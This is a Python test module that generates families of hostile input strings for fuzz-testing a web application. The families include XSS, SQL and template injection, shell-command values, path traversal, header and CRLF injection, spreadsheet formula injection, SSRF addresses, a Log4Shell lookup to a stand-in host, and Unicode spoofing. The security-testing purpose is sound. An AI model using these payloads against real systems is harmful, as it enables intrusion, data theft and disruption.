"""Strings that break things, a family at a time: each made here from what it attacks, and none of them copied from a list.

`STRINGS` is (family, string) in a stable order. A string that would run in a browser calls `__pwned`, which the tests watch; one
that would be worked out by a template or a spreadsheet gives 5417 or 91."""

from __future__ import annotations

import html
import random
import unicodedata
from collections.abc import Iterator
from itertools import product
from urllib.parse import quote

CALL = "__pwned(1)"
WORKED_OUT = "5417"  # 5417 = 5407 + 10, and a product of nothing small
RLO, LRE, PDF, RLI, LRI, PDI = "\u202e", "\u202a", "\u202c", "\u2067", "\u2066", "\u2069"
ZWSP, ZWNJ, ZWJ, BOM = "\u200b", "\u200c", "\u200d", "\ufeff"


def markup() -> Iterator[str]:
    """What is a tag where nobody expects one: in text, in an attribute, in a script, in a style, in a comment."""
    tags = [
        f"<script>{CALL}</script>",
        f"<img src=x onerror={CALL}>",
        f"<svg onload={CALL}>",
        f"<svg><animate onbegin={CALL} attributeName=x dur=1s>",
        f"<details open ontoggle={CALL}>x</details>",
        f"<input autofocus onfocus={CALL}>",
        f'<iframe srcdoc="<script>parent.{CALL}</script>"></iframe>',
        f"<a href=javascript:{CALL}>press</a>",
        f"<math><mtext><img src=x onerror={CALL}></mtext></math>",
        f"<style>@import 'javascript:{CALL}'</style>",
        f"<body onpageshow={CALL}>",
        f"<form action=javascript:{CALL}><button>press</button></form>",
        f"<object data=javascript:{CALL}></object>",
        f"<video><source onerror={CALL}></video>",
        "<meta http-equiv=refresh content='0;url=//elsewhere.invalid'>",
        "<base href=//elsewhere.invalid/>",
        "<link rel=stylesheet href=//elsewhere.invalid/x.css>",
        "<plaintext>",
        "<!-- never closed",
    ]
    outs = [
        "",
        '"',
        "'",
        '">',
        "'>",
        "</textarea>",
        "</title>",
        "</script>",
        "</style>",
        "-->",
        "]]>",
        "</svg>",
    ]
    for out, tag in product(outs, tags[:4]):
        yield out + tag
    yield from tags[4:]
    yield from (f"{quote_} onmouseover={CALL} x={quote_}" for quote_ in "\"'`")
    yield f'" autofocus onfocus="{CALL}" x="'
    yield f"' accesskey='x' onclick='{CALL}"
    yield html.escape(tags[1])
    yield html.escape(html.escape(tags[1]))
    yield "".join(f"&#{ord(sign)};" for sign in tags[1])
    yield "".join(f"\\u{ord(sign):04x}" for sign in tags[0])
    yield tags[0].replace("script", "scr\x00ipt")
    yield tags[0].replace("script", "scr<script>ipt")
    yield tags[1].upper()
    yield tags[1].replace("<", "\uff1c").replace(">", "\uff1e")
    yield tags[1].replace(" ", "/**/")
    yield tags[1].replace(" ", "\x0c")


def code_in_text() -> Iterator[str]:
    """Out of a JSON island, a data attribute, an htmx attribute, a written-down form of markdown."""
    yield f'</script><script>{CALL}</script>{{"a":1}}'
    yield f'{{"__proto__":{{"polluted":"{CALL}"}}}}'
    yield f'\\");{CALL};//'
    yield f"';{CALL};'"
    yield f"${{{CALL}}}"
    yield f"`;{CALL};`"
    yield f'" hx-get="/" hx-trigger="load" hx-on::load="{CALL}'
    yield f'" data-hx-on-click="{CALL}" x="'
    yield f"[press](javascript:{CALL})"
    yield f'![x](x"onerror="{CALL})'
    yield f"<javascript:{CALL}>"
    yield f'[a]: javascript:{CALL} "b"'
    yield "\u2028" + CALL + "\u2029"


def addresses() -> Iterator[str]:
    for scheme in (
        "javascript:",
        "JaVaScRiPt:",
        "java\tscript:",
        "java\nscript:",
        " javascript:",
        "\x01javascript:",
        "vbscript:",
    ):
        yield scheme + CALL
    yield f"data:text/html,<script>{CALL}</script>"
    yield f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{CALL}'/>"
    yield f"javascript://example.org/%0a{CALL}"
    yield f'https://example.org/"onmouseover={CALL}'
    yield f"https://example.org/?a=<script>{CALL}</script>"
    yield from (
        "//elsewhere.invalid", "///elsewhere.invalid", "/\\elsewhere.invalid", "\\\\elsewhere.invalid",
        "https:elsewhere.invalid", "https://example.org@elsewhere.invalid/", "https://example.org:99999/",
        "https://[::1", "http://[fe80::1%25eth0]/", "https://xn--a.example/", "https://ex\u00e4mple.org/",
        "http://" + "a." * 120 + "example", "file:///etc/passwd", "gopher://127.0.0.1:6379/_FLUSHALL",
        "http://169.254.169.254/latest/", "http://0x7f000001/", "https://example.org/\r\nX-Injected: 1",
    )  # fmt: skip
    for tail in ("?bcc=all@example.org", "?subject=x%0d%0aBcc:all@example.org", "%0ABcc:all@example.org"):
        yield f"mailto:someone@example.org{tail}"


def templates() -> Iterator[str]:
    """In no language are words of people worked out."""
    for inner in (
        "5407|add:10",
        "5407+10",
        "request.user.password",
        "settings.SECRET_KEY",
        "''.__class__.__mro__",
    ):
        yield f"{{{{ {inner} }}}}"
    yield from (
        "{% load log %}{% get_admin_log 9 as x %}", "{% debug %}", "{% include '/etc/passwd' %}", "{% csrf_token %}",
        "{# comment", "{% verbatim %}", "{% endblock %}", "{{", "}}", "{%", "%}", "{{{{", "{0.__class__}",
        "{person.__init__.__globals__}", "%(name)s", "%s%s%s%n", "%", "%%", "% d", "{}", "{0}", "{name!r:>9999999}",
        "${5407+10}", "#{5407+10}", "<%= 5407+10 %>", "@(5407+10)", "[[${5407+10}]]", "$(sleep 9)", "`sleep 9`", "; sleep 9", "| sleep 9",
        "&& sleep 9", "\\1\\g<0>", "$1$&",
    )  # fmt: skip


def headers() -> Iterator[str]:
    """Another line of a header, by every sign that some program takes for the end of one."""
    added = (
        "Bcc: all@example.org",
        "X-Injected: 1",
        "Content-Type: text/html\r\n\r\n<script>__pwned(1)</script>",
        "Set-Cookie: a=b",
    )
    for end, line in product(
        ("\r\n", "\n", "\r", "\r\n ", "\x0b", "\x0c", "\x85", "\u2028", "\u2029", "%0d%0a"), added[:2]
    ):
        yield f"Amara{end}{line}"
    yield f"Amara\r\n{added[2]}"
    yield f"Amara\n{added[3]}"
    yield "=?utf-8?b?QQ0KQmNjOiBhbGxAZXhhbXBsZS5vcmc=?="
    yield "=?utf-8?q?A=0D=0ABcc:_all@example.org?="
    yield '"Amara" <other@example.org>, <all@example.org>'
    yield "Amara <other@example.org>"
    yield 'Amara"; filename="x.html'
    yield "Amara\r\n.\r\nMAIL FROM:<x@example.org>"
    yield "--=_boundary--\r\n\r\nafter"
    yield "someone@example.org\nBcc:all@example.org"
    yield '"a\r\nb"@example.org'
    yield "a" * 64 + "@" + "b" * 190 + ".org"


def formulas() -> Iterator[str]:
    bodies = (
        "7*13",
        'HYPERLINK("https://elsewhere.invalid","press")',
        "cmd|' /C calc'!A0",
        'WEBSERVICE("https://elsewhere.invalid")',
    )
    befores = ("", " ", "\t", "\r", "\n", '"', "'", ZWSP, BOM, "\xa0", "\x00", ";", ",")
    for sign, body in product("=+-@", bodies[:2]):
        yield sign + body
    for before in befores[1:]:
        yield f"{before}={bodies[0]}"
    yield from (f"={body}" for body in bodies[2:])
    yield from (
        "\uff1d7*13",
        "\uff0b7*13",
        "\uff207*13",
        "|7*13",
        "%0A=7*13",
        "=7*13\n=7*13",
        "@SUM(1)*cmd|' /C calc'!A0",
        "-1+7*13",
        "-",
        "=",
        "+",
        "@",
        "#REF!",
        "#N/A",
    )
    yield from ('a","b', 'a""b', '"', '"a', "a\r\nb,c", "a;b", "a\tb", "sep=;", "_x0041_", "_x000D_")


def calendars() -> Iterator[str]:
    yield from (
        "a;b,c\\d", "a\\nb", "a\nEND:VEVENT\nBEGIN:VEVENT\nSUMMARY:second", "a\r\nATTENDEE:mailto:all@example.org", "a\r\n ATTENDEE:x",
        ";LANGUAGE=de:b", ':";', "BEGIN:VALARM", "é" * 90, "\U0001f9d1\U0001f3fd" * 30, "a" * 74 + "\r\n b", "a^nb^^c^'d", "\\", "\\,\\;",
    )  # fmt: skip


def directions() -> Iterator[str]:
    for sign in (RLO, LRE, RLI, LRI, "\u202b", "\u202d", "\u2068"):
        yield f"Amara{sign}rotnem"
    yield from (
        f"{RLO}gpj.exe", f"invoice{RLO}fdp.exe", f"{PDF}{PDI}Amara", f"{RLI}{RLO}Amara", f"Amara{PDI}{PDI}{PDI}{RLO}", RLO * 60 + "a",
        "\u200e\u200f\u061c", "\u05d0\u05de\u05e8\u05d4", "\u0623\u0645\u0627\u0631\u0629 (Leeds) 5", "Leeds \u0645\u0631\u062d\u0628\u0627 3:4", "\u202dabc\u202edef",
    )  # fmt: skip


def invisible() -> Iterator[str]:
    for sign in (
        ZWSP,
        ZWNJ,
        ZWJ,
        BOM,
        "\u2060",
        "\u00ad",
        "\u180e",
        "\u034f",
        "\u115f",
        "\u3164",
        "\uffa0",
        "\u2800",
        "\u00a0",
        "\u3000",
        "\u2003",
    ):
        yield sign * 3
    yield from (
        f"Ama{ZWSP}ra",
        f"Ama{ZWNJ}ra",
        f"{BOM}Amara",
        "Amara\ufe0f",
        "\U000e0041\U000e0042",
        "a" + "\U000e0061" * 40,
        "\u202a\u202c",
        "a\u2028b\u2029c",
    )
    yield "".join(chr(0xE0100 + number % 240) for number in range(400))


def letters() -> Iterator[str]:
    """Whole scripts, and letters that look like others."""
    yield from (
        "\u0410m\u0430r\u0430", "\U0001d400\U0001d426\U0001d41a\U0001d42b\U0001d41a", "\uff21\uff4d\uff41\uff52\uff41", "\u24b6\u24dc", "A\u0307\u0323mara", "\u00c5\u212b",
        "stra\u00dfe STRASSE \u0130I\u0131i", "\ufb03\ufb06", "\u01c4\u01f2", "\u2126\u03a9", "\ufdfa", "\u1e9b\u0323", "\u0e01\u0e33\u0e33", "\u0928\u093f", "\u0646\u0627\u0645\u0647\u200c\u0627\u06cc",
        "\u65e5\u672c\u8a9e\u306e\u540d\u524d", "\ud55c\uad6d\uc5b4", "\u1112\u1161\u11ab", "\u0531\u0574\u0561\u0580\u0561", "\u10d0\u10db\u10d0\u10e0\u10d0", "\U00020000\U0002a6d6", "O\u2019Brien", "d'Arcy-\u00d3 N\u00ed",
        "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466", "\U0001f3f4\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f", "\U0001f1ec\U0001f1e7\U0001f1ec", "1\ufe0f\u20e3", "\U0001f44d\U0001f3fe" * 40,
        "\u0e49" * 5, "\ue000\uf8ff", "\ufffd\ufffd",
    )  # fmt: skip
    seeded = random.Random(11)
    marks = [chr(code) for code in range(0x300, 0x36F)]
    for many in (3, 8, 9, 40, 400):
        yield "".join(letter + "".join(seeded.choices(marks, k=many)) for letter in "Amara")
    yield unicodedata.normalize("NFD", "\u00c5\u1e69\u1ec7")


def controls() -> Iterator[str]:
    for code in (*range(0x00, 0x20, 3), 0x00, 0x08, 0x1B, 0x1F, 0x7F, 0x80, 0x85, 0x9F):
        yield f"Ama{chr(code)}ra"
    yield from (
        "\x00",
        "\x00" * 40,
        "\x1b[2J\x1b]0;x\x07",
        "a\x08\x08b",
        "\x1a",
        "\x04",
        "a\r\rb",
        "\ufffe\uffff",
        "\ufdd0",
        "\U0010ffff",
        "\ud800",
        "\udfff\ud800",
        "a\udc80b",
    )


def sizes() -> Iterator[str]:
    yield from (
        "x" * 200,
        "x" * 5000,
        "word " * 3000,
        "\u00df" * 121,
        "\U0001f9d1" * 121,
        "\n" * 500,
        " " * 5000,
        "a\n" * 2000,
        "W" * 400 + " " + "i" * 400,
        "x" * 100_000,
    )
    yield "<" * 3000
    yield "&amp;" * 1000
    yield "(" * 3000


def words() -> Iterator[str]:
    yield from (
        "null", "NULL", "None", "undefined", "NaN", "Infinity", "-Infinity", "true", "false", "nil", "0", "-0", "1e400", "0x10", "1_000", "\u0661\u0662",
        "9" * 40, "-1", "1.5", "1,5", "2147483648", "9223372036854775808", "1e308", "00", "+1", "\u00bd", "\u2460",
        "0000-00-00", "9999-12-31", "10000-01-01", "2026-02-30", "2026-11-27T25:61", "0001-01-01", "-1-1-1",
        "[]", "{}", "[object Object]", "Null Island", "all", "*", "?", "../", ".", "..", "", " ", "\t", "constructor", "__proto__", "toString",
        "00000000-0000-0000-0000-000000000000", "ffffffff-ffff-ffff-ffff-fffffffffffg", "a" * 32,
    )  # fmt: skip


def queries() -> Iterator[str]:
    yield from (
        "' OR '1'='1", "'; DROP TABLE accounts_person; --", "\" OR \"\"=\"", "1) OR (1=1", "\\'; --", "%' AND 1=0 UNION SELECT 1 --", "$$; SELECT pg_sleep(9); --", "E'\\x00'",
        "%", "_", "%%%%", "\\", "\\\\", "a & b | !c", "':*", "<->", "((((", "a:*b", "*)(uid=*))(|(uid=*", "admin)(&)", "{\"$gt\": \"\"}", "' || 'a", "/*", "--", ";",
        "(?:a+)+$", "(a|a)*" * 9 + "$", "[", "a" * 40 + "!", "FLUSHALL\r\n", "*1\r\n$8\r\nFLUSHALL\r\n",
    )  # fmt: skip


def paths() -> Iterator[str]:
    yield from (
        "../../../etc/passwd", "..\\..\\windows\\win.ini", "....//....//etc/passwd", "/etc/passwd", "C:\\x", "\\\\host\\share", "file.php\x00.jpg", "%2e%2e%2f", "%252e%252e%252f",
        "%c0%ae%c0%ae/", "con", "nul.txt", "a" * 300 + ".pdf", ".htaccess", ".", "..", "~root", "-rf", "a/b\\c", "x.pdf.exe", "x.pdf ", "x.pdf.", "x;.pdf", "x\"y.pdf", "x'y.pdf",
        "x%0d%0aX-Injected:1.pdf", "x\r\nX-Injected: 1.pdf", "\u00fcber \u65e5\u672c.pdf", f"x{RLO}fdp.exe", "<svg onload=__pwned(1)>.svg", "$(id).pdf", "|id.pdf", "x\u2215y.pdf",
    )  # fmt: skip


def logs() -> Iterator[str]:
    yield from (
        "a\n2026-11-27 00:00:00 ERROR forged line",
        'a\r\n127.0.0.1 - - "GET / HTTP/1.1" 200',
        "${jndi:ldap://elsewhere.invalid/x}",
        "\x1b[31mred",
        "%(asctime)s %(levelname)s",
    )


def encodings() -> Iterator[str]:
    for text in ("<script>__pwned(1)</script>", "../x", "'", "\r\nX-Injected: 1", "\x00"):
        yield quote(text)
        yield quote(quote(text))
    yield from (
        "%",
        "%zz",
        "%u003cscript%u003e",
        "%ff%fe",
        "%c0%bc",
        "+ADw-script+AD4-",
        "\\x3cscript\\x3e",
        "&lt;script&gt;",
        "&#0;",
        "&#x110000;",
        "&NotEqualTilde;",
    )


FAMILIES = (
    markup, code_in_text, addresses, templates, headers, formulas, calendars, directions, invisible, letters, controls, sizes, words,
    queries, paths, logs, encodings,
)  # fmt: skip
STRINGS: list[tuple[str, str]] = list(
    dict.fromkeys((family.__name__, text) for family in FAMILIES for text in family())
)

# What cannot be a string: bytes of a form's field that are no UTF-8, as the percent-encoded body holds them.
BYTES = (
    b"%FF%FE", b"Ama%C3ra", b"%C0%BC", b"%E0%80%AF", b"%ED%A0%80", b"%ED%BF%BF%ED%A0%80", b"%F4%90%80%80", b"%F8%88%80%80%80", b"%80",
    b"%C3%28", b"%", b"%G1", b"%00", b"%u0041", b"+%2B%252B", b"\xff\xfe", b"\x00", b"%E2%80%AE",
)  # fmt: skip


def sample(many: int, seed: int) -> list[tuple[str, str]]:
    """`many` strings, of every family at least one where there is room."""
    seeded = random.Random(seed)
    by_family = [seeded.sample([pair for pair in STRINGS if pair[0] == f.__name__], k=2) for f in FAMILIES]
    first = [pair for pairs in by_family for pair in pairs]
    rest = [pair for pair in STRINGS if pair not in first]
    return (first + seeded.sample(rest, k=max(0, min(many, len(STRINGS)) - len(first))))[:many]
